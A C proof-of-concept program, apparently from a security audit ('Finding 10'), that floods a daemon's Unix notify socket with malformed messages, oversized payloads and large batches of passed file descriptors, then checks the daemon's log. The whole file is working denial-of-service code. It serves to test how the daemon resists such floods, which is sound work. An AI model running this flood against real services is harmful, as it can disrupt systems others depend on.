/*
 * Finding 10. Messages that the daemon refuses, for every reason there is, as fast as it takes them.
 * notify-flood PATH SECONDS. What decides is what the daemon's log says.
 */
#include "attack.h"

int main(int argc, char **argv)
{
    static char big[20000];
    static const char *const words[] = { "X", "=", "\xff\xfe", "", "MAINPID=1", "MAINPID=x", "FDSTORE=1", "FDSTOREREMOVE=1", "WATCHDOG_USEC=x", "BARRIER=1", "READY=1", "ERRNO=x", "EXTEND_TIMEOUT_USEC=x" };
    if (argc != 3)
        errno = EINVAL, broken("notify-flood PATH SECONDS");
    memset(big, 'x', sizeof big - 1);
    int many[MOST_DESCRIPTORS], fd = -1, null = open("/dev/null", O_RDONLY | O_CLOEXEC);
    struct sockaddr_un to = unix_address(argv[1]);
    struct timeval second = { 1, 0 };
    for (int i = 0; i < MOST_DESCRIPTORS; i++)
        many[i] = null;
    long sent = 0;
    for (long long end = now_ms() + atof(argv[2]) * 1000; now_ms() < end; sent++) {
        if (sent % 50 == 0) {
            close(fd);
            fd = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);
            setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &second, sizeof second);
            if (connect(fd, (struct sockaddr *)&to, sizeof to) != 0)
                broken("%s", argv[1]);
        }
        const char *word = sent % 5 == 4 ? big : words[sent / 5 % (sizeof words / sizeof *words)];
        if (send_with(fd, word, strlen(word), many, sent % 100 == 99 ? MOST_DESCRIPTORS : sent % 7 == 6, 0) != 0 && errno != EPERM && errno != EAGAIN && errno != EMSGSIZE)
            broken("message %ld", sent);
    }
    if (sent < 1000)
        errno = 0, broken("only %ld messages were sent", sent);
    failed("%ld messages sent", sent);
}
